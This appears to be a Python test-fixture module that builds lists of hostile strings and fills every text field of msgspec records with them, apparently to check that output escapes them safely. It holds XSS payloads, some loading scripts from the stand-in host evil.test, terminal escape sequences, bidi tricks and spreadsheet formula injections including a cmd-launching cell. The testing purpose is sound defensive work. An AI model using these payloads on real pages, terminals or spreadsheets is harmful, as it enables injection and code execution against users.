"""Texts that try to act on whoever shows them, and records in which every text is such a one."""

from collections.abc import Iterator
from itertools import cycle, islice
from typing import Any, TypeVar

import msgspec
from msgspec.inspect import (
    CustomType,
    DictType,
    EnumType,
    LiteralType,
    StrType,
    StructType,
    TupleType,
    Type,
    UnionType,
    VarTupleType,
    type_info,
)

T = TypeVar("T")

_ACTS = (
    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img src=http://evil.test/x.png>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<a href=javascript:alert(1)>x</a>",
    "<object data=//evil.test/x></object>", "<embed src=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<style>@import '//evil.test/x.css';</style>", "<form action=//evil.test><button>x</button>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<template><b>x</b></template>",
)  # fmt: skip
_CONTEXTS = (
    "", '">', "'>", "</title>", "</script>", "</style>", "-->", "]]>", "</textarea>", "</pre>",
)  # fmt: skip
_OTHERS = (
    '" onmouseover="alert(1)', "' onclick='alert(1)", "` onload=`alert(1)", "javascript:alert(1)",
    "<!--", "<!--<script>", "</SCRIPT ><b>", "<sCrIpT>alert(1)", "\\u003cscript\\u003ealert(1)",
    "&lt;b&gt;", "&#60;b&#62;", "&amp;quot;", "{{ 7 * 7 }}", "{% raw %}", "${alert(1)}", "<%= 1 %>",
    "\u2028alert(1)\u2029", "%3Cscript%3E", "+ADw-script+AD4-", "<\0script>", "<scr\x00ipt>",
    "'-alert(1)-'", '"};alert(1);{"', "\\\";alert(1)//", "*/alert(1)/*", "__proto__",
    "constructor", "toString", "<plaintext>", "data:text/html,<script>alert(1)</script>",
)  # fmt: skip
MARKUP = (*(context + act for act in _ACTS for context in _CONTEXTS), *_OTHERS)
"""Texts that a page could take for markup or for a script."""

_CONTROLS = (
    "\x1b[2J", "\x1b[31m", "\x1b[1;1H", "\x1b[?1049h", "\x1b[6n", "\x1b[c", "\x1b[>c", "\x1b[20t",
    "\x1b[?25l", "\x1b[3J", "\x1bc", "\x1b7", "\x1bD", "\x1bM", "\x1b#8", "\x1b(0", "\x1b%G",
    "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]8;;http://evil.test\x07x\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07", "\x1b]4;1;red\x07", "\x1b]1337;File=x:eA==\x07",
    "\x1b]777;notify\x07",
    "\x1bP+q544e\x1b\\", "\x1bP$q\x1b\\", "\x1b_Gf=32\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\",
    "\x9b2J", "\x9d0;title\x9c", "\x90q\x9c", "\x9fapc\x9c", "\x9epm\x9c", "\x98sos\x9c", "\x84",
    "\x85", "\x8d", "a\rb", "a\bb", "a\nb", "a\tb", "\x07", "\x0b", "\x0c", "\x0e", "\x0f", "\x11",
    "\x13", "\x18", "\x1a", "\x7f", "\0", "\u202egnp.exe", "\u202dx", "\u202ax", "\u202bx",
    "\u2066x",
    "\u2067x", "\u2068x", "\u200ex", "\u200fx", "\u061cx", "zero\u200bwidth", "join\u200d",
    "\ufeffbom",
    "soft\u00adhyphen", "\u2028line", "\u2029part", "\U000e0041tag", "\ue000private",
    "lone \ud800 surrogate", "[bold]x[/bold]", "[link=http://evil.test]x[/link]", ":smile:",
)  # fmt: skip
_CELLS = (
    "=HYPERLINK(\"http://evil.test\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "=1+1", " =1", "|a|b|", "`code`", "# title", "- item", "1. item", "> quote", "***",
    "[x](http://evil.test)", "![x](http://evil.test/x.png)", "<b>x</b>", "~~~", "```", "<!-- x -->",
    "@someone", "#123", "a,b", 'a"b', "a;b",
)  # fmt: skip
ESCAPES = (*_CONTROLS, *_CELLS)
"""Texts that a terminal, a spreadsheet or Markdown could obey."""

_FIXED = ("Reason.code", "Reason.facts", "Environment.versions")
"""Fields that only look like text: codes with the numbers that their sentences are made of."""


def rotated(texts: tuple[str, ...], by: int) -> Iterator[str]:
    """Return the texts for ever, beginning with another one."""
    return islice(cycle(texts), by % len(texts), None)


def filled(record: T, texts: Iterator[str], kept: tuple[str, ...] = ()) -> T:
    """Return the record with every text in it replaced by the next of these texts. Literals and
    members of enums stay, and the fields that are named as "Struct.field"."""
    return _filled(type_info(type(record)), record, texts, {*_FIXED, *kept})  # type: ignore[no-any-return]


def _filled(kind: Type, value: Any, texts: Iterator[str], kept: set[str]) -> Any:
    if isinstance(kind, UnionType):
        return _filled(_member(kind, value), value, texts, kept)
    if isinstance(kind, StrType) and isinstance(value, str):
        return next(texts) if value else value
    if isinstance(value, msgspec.Struct) and isinstance(kind, StructType | CustomType):
        name = type(value).__name__
        known = type_info(type(value))
        assert isinstance(known, StructType)
        changed = {
            field.name: _filled(field.type, getattr(value, field.name), texts, kept)
            for field in known.fields
            if f"{name}.{field.name}" not in kept
        }
        return msgspec.structs.replace(value, **changed)
    if isinstance(kind, VarTupleType):
        return tuple(_filled(kind.item_type, one, texts, kept) for one in value)
    if isinstance(kind, TupleType):
        return tuple(
            _filled(part, one, texts, kept)
            for part, one in zip(kind.item_types, value, strict=True)
        )
    if isinstance(kind, DictType):
        return {
            _filled(kind.key_type, key, texts, kept): _filled(kind.value_type, one, texts, kept)
            for key, one in value.items()
        }
    return value


def _member(kind: UnionType, value: Any) -> Type:
    """Return which type of a union the value has."""
    for one in kind.types:
        if isinstance(value, str):
            if isinstance(one, EnumType | LiteralType):
                return one
        elif isinstance(value, msgspec.Struct):
            if isinstance(one, StructType) and one.cls is type(value):
                return one
        elif isinstance(one, VarTupleType | TupleType | DictType) and isinstance(
            value, tuple | dict
        ):
            return one
    texts = [one for one in kind.types if isinstance(one, StrType)]
    return texts[0] if texts else kind.types[0]
